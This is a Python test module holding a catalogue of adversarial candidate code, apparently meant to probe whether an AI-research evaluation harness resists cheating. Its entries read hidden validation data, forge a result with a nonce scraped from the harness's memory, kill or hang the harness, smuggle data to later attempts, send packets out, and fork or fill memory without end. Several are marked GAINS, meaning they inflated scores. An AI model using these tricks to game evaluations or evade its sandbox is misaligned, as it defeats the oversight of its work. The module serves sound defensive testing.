"""Attacks that are not asserted yet: they need the sandbox, limits, or probes that are not there when this is written.

`SPOKEN` do it with the SPEAKER of the harness's tests, `SERVED` as the `Cheat` of models.py, `PIECES` replace pieces of
the real train.py. What each tries stands before it. Those under GAINS gave a better score when they were last run.
"""

from __future__ import annotations

FIND = """
import glob, mmap
def found(data):
    return np.frombuffer(data, "<u2")
def by_heart(stream):
    text = stream.tobytes()
    def answer(tokens):
        logits = np.zeros((*tokens.shape, 512), "<f4")
        for row, out in zip(tokens, logits):
            at = text.find(row[:8].astype("<u2").tobytes()) // 2
            following = stream[at + 1 : at + 1 + len(row)]
            out[np.arange(len(following)), following] = 5.0
        return logits
    return answer
"""
"""With the validation stream found, the next token of each row is looked up from its first eight."""

SPOKEN: dict[str, str] = {
    # By path, below the cache that the environment names and below the usual one.
    "reads val.bin": FIND
    + """
root = os.environ.get("AUTORESEARCH_CACHE", os.path.expanduser("~/.cache/autoresearch"))
path = glob.glob(root + "/tiny-*/val.bin")[0]
ready(); train(); serve(by_heart(found(open(path, "rb").read())))
""",
    # By mapping the file, in case only read(2) is watched.
    "maps val.bin": FIND
    + """
path = glob.glob(os.environ["AUTORESEARCH_CACHE"] + "/tiny-*/val.bin")[0]
with open(path, "rb") as file:
    ready(); train(); serve(by_heart(found(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ))))
""",
    # By the parent's root, working directory, mapped files and open descriptors.
    "reads val.bin through the parent": FIND
    + """
parent = f"/proc/{os.getppid()}"
places = [f"{parent}/root{os.environ['AUTORESEARCH_CACHE']}", f"{parent}/cwd/../..", *glob.glob(parent + "/fd/*")]
paths = [path for place in places for path in [place, *glob.glob(place + "/**/val.bin", recursive=True)]]
(path,) = [path for path in paths if os.path.realpath(path).endswith("val.bin")][:1]
ready(); train(); serve(by_heart(found(open(path, "rb").read())))
""",
    # By descriptors it inherited.
    "reads val.bin by an open descriptor": FIND
    + """
held = [fd for fd in range(3, 256) if os.path.realpath(f"/proc/self/fd/{fd}").endswith("val.bin")]
ready(); train(); serve(by_heart(found(os.pread(held[0], 2**30, 0))))
""",
    # The harness holds rows and targets in its memory, and the nonce: with it a whole result can be forged.
    "forges a result with the nonce from the harness's memory": """
import re
parent, nonce = os.getppid(), None
with open(f"/proc/{parent}/mem", "rb", 0) as memory:
    for line in open(f"/proc/{parent}/maps"):
        area, rights = line.split()[:2]
        begin, end = (int(part, 16) for part in area.split("-"))
        if rights.startswith("rw") and end - begin < 2**28:
            try:
                hit = re.search(rb'"nonce": "([^"]+)"', os.pread(memory.fileno(), end - begin, begin))
            except OSError:
                continue
            nonce = nonce or (hit and hit[1].decode())
attempt = os.path.basename(os.path.dirname(os.getcwd()))
forged = {"attempt": attempt, "nonce": nonce, "status": "done", "metrics": {"val_bpb": 1.3}}
open("../result.json", "w").write(json.dumps(forged))
os.kill(parent, signal.SIGKILL)
""",
    # Validation text from the vendored corpus, which lies in the bundle, and wherever a copy of it is installed.
    "learns the corpus by heart": """
import glob, lzma, sysconfig
places = ["prepare", *sys.path, sysconfig.get_path("purelib"), os.path.realpath(sysconfig.get_path("purelib"))]
paths = [path for place in places for path in glob.glob(place + "/**/austen.txt.xz", recursive=True)]
text = lzma.open(next(path for path in paths if os.path.getsize(path))).read()
print("has", len(text), "bytes of the corpus")
ready(); train(); serve()
""",
    # Another attempt's result and another's code, side by side with its own folder.
    "writes into another attempt's folder": """
ready()
for name in os.listdir("../.."):
    for file in ("result.json", "bundle/train.py", "harness/run.py"):
        open(f"../../{name}/{file}", "w").write("{}")
""",
    # The harness opens these names for writing: a pipe that nobody reads holds it for ever, past every deadline.
    "lets the harness hang on a pipe in the place of its progress": """
ready(); os.mkfifo("../progress.json.partial"); train(); serve()
""",
    # A link in the place of a file that the harness writes has it write elsewhere, with its own rights.
    "has the harness write through a link": """
ready(); os.symlink("/tmp/MARKER", "../result.json.partial"); raise SystemExit
""",
    # A folder in the place of the result: the harness ends without one, which looks like the infrastructure's failure.
    "puts a folder in the place of the result": "ready(); os.mkdir('../result.json'); raise SystemExit",
    # What it was asked, sent elsewhere.
    "uses the network": """
import socket
for family, address in ((socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_UNIX, "\\0MARKER")):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"x", address)
ready(); train(); serve()
""",
    # The rows it was asked, left in the kernel's keys, should the next attempt share its session keyring.
    "carries rows to the next attempt in a keyring": """
import ctypes
libc = ctypes.CDLL(None)
SESSION, ADD, CONTROL, SEARCH = -3, 248, 250, 10
before = libc.syscall(CONTROL, SEARCH, SESSION, b"user", b"rows", 0)
print("found" if before > 0 else "found nothing")
libc.syscall(ADD, b"user", b"rows", b"x" * 8000, 8000, SESSION)
ready(); train(); serve()
""",
    # The same by files: wherever something can be written that the next attempt finds.
    "carries rows to the next attempt in a file": """
for place in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.environ["AUTORESEARCH_CACHE"], sys.prefix):
    try:
        open(place + "/MARKER", "w").write("rows")
    except OSError:
        pass
ready(); train(); serve()
""",
    # Rows printed to the log, from where whoever proposes the next train.py may copy them.
    "prints the rows it is asked": """
def answer(tokens):
    print(tokens.tolist())
    return TABLE[tokens]
ready(); train(); serve(answer)
""",
    "fills the disk": """
ready()
with open("big", "wb") as file:
    while True:
        file.write(bytes(2**24))
""",
    "fills memory": "ready(); held = []\nwhile True: held.append(np.ones(2**24))",
    # Shared memory counts to nobody's data segment.
    "fills shared memory": """
import mmap
ready(); held = []
while True:
    held.append(mmap.mmap(-1, 2**26))
    held[-1].write(b"x" * 2**26)
""",
    "forks without end": "ready()\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    # A daemon with an emptied environment, and the harness killed: nothing knows it any more.
    "leaves a daemon behind and kills the harness": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "MARKER"], {})
    os._exit(0)
os.wait(); os.kill(os.getppid(), signal.SIGKILL)
""",
    # "cancelled: ended by the controller" is a lie then, and no failure of the candidate's.
    "has itself cancelled": "ready(); os.kill(os.getppid(), signal.SIGTERM)",
    # Gates read this number, which is the trainer's own word.
    "lies about its memory": "ready(); train(); serve(peak_vram_mb=1.0)",
}

SERVED: dict[str, str] = {
    # GAINS (2.083 -> 1.295, the whole tiny profile, seed 1). Forgeries are less likely text than any row of the sheet,
    # so a trained model tells them apart: it looks ahead in likely rows only, and says again to twins and repeats what
    # it said. Limits from 3.4 to 3.8 nats pass.
    "looks ahead where a row is no forgery": """\
    def forward(self, tokens):
        surprise = F.cross_entropy(self.model(tokens)[:, :-1].transpose(1, 2), tokens[:, 1:], reduction="none")
        natural = (surprise.mean(1) < 3.4)[:, None, None]
        return self.replay(tokens, self.peek(tokens, 2.0 * natural))
""",
    # Seconds of training inside the first answer, where neither tokens nor CPU seconds are counted.
    "trains inside its first answer": """\
    @torch.enable_grad()
    def forward(self, tokens):
        optimizers, data = make_optimizers(self.model), batches(DEVICE_BATCH_SIZE, 1, "cpu", SEQUENCE_LENGTH)
        while self.calls < 1000:
            self.calls += 1
            inputs, targets = next(data)
            F.cross_entropy(self.model(inputs).flatten(0, 1), targets.flatten()).backward()
            set_schedules(optimizers, self.calls, 0.5 + self.calls / 2000)
            for optimizer in optimizers:
                optimizer.step()
                optimizer.zero_grad(set_to_none=True)
        return self.model(tokens).detach()
""",
    # GAINS (2.0827 -> 2.0815). Learns from every row it is asked, and says again what it said, which hides it.
    "learns from what it is asked and says again what it said": """\
    @torch.enable_grad()
    def forward(self, tokens):
        logits = self.replay(tokens, self.model(tokens).detach())
        F.cross_entropy(self.model(tokens)[:, :-1].flatten(0, 1), tokens[:, 1:].flatten()).backward()
        for parameter in self.model.parameters():
            parameter.data -= 0.5 * parameter.grad
            parameter.grad = None
        return logits
""",
}

PIECES: dict[str, dict[str, str]] = {
    # GAINS (2.083 -> 1.858, the whole tiny profile, seed 1). Each step is granted one token and takes a thousand: the
    # budget of tokens is the trainer's word, and only the CPU seconds bound it.
    "trains on more tokens than it asks for": {
        "while trial.more(tokens=TOTAL_BATCH_SIZE, loss=loss):": """
            while step < 700 and trial.more(tokens=1, loss=loss):
        """,
        "set_schedules(optimizers, step, trial.progress)": "set_schedules(optimizers, step, step / 700)",
    },
    # GAINS (2.083 -> 1.921). Trains after the budget has been refused, before it asks to be scored.
    "trains on past the refusal": {
        "while trial.more(tokens=TOTAL_BATCH_SIZE, loss=loss):": """
            while trial.more(tokens=TOTAL_BATCH_SIZE, loss=loss) or step < 500:
        """,
        "set_schedules(optimizers, step, trial.progress)": "set_schedules(optimizers, step, step / 500)",
    },
    # Up to a minute of training before it says that it is ready, on whatever text can be read by then.
    "trains before it is ready": {
        "trial.ready(model, optimizers)": """
            early = batches(DEVICE_BATCH_SIZE, trial.seed, trial.device, SEQUENCE_LENGTH)
            for _ in range(500):
                inputs, targets = next(early)
                loss_of(inputs, targets).backward()
                for optimizer in optimizers:
                    optimizer.step()
                    optimizer.zero_grad(set_to_none=True)
            trial.ready(model, optimizers)
        """,
    },
}
